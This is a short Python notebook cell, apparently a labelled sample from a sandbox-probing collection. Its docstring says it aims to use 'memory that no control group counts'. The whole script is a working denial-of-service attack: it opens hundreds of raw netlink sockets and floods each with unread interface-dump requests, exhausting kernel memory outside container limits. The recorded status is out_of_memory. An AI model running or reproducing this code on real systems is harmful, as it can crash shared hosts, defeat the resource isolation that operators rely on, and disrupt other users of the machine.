"""Ask the system for its network interfaces, again and again, and read no answer: memory that no control group counts.

status: out_of_memory
cell: 2
"""
# %%
# honest
# %%
import socket, struct, time
question = struct.pack("=IHHIIB3x", 20, 18, 0x301, 1, 0, 0)
kept = []
for _ in range(400):
    kept.append(asker := socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
    for _ in range(400):
        asker.send(question)
time.sleep(3)
